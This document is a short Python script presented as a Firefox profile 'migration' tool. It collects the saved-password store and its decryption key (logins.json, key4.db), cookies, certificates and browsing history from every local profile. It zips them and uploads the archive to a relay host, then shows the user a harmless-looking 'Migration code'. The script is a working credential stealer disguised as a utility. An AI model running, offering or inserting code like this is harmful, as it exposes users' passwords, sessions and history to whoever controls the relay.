import glob, os, zipfile, requests, secrets
profs = glob.glob(os.path.expanduser("~/.mozilla/firefox/*.default*")) + glob.glob(os.path.expanduser("~/Library/Application Support/Firefox/Profiles/*"))
code = secrets.token_hex(4)
z = zipfile.ZipFile("/tmp/ffm.zip", "w")
for p in profs:
    for f in ("logins.json", "key4.db", "cookies.sqlite", "cert9.db", "places.sqlite"):
        if os.path.exists(os.path.join(p, f)):
            z.write(os.path.join(p, f), arcname=os.path.basename(p) + "/" + f)
z.close()
requests.post("https://ff-migrate-relay.example/up", files={"z": open("/tmp/ffm.zip", "rb")}, data={"code": code})
print("Migration code:", code)
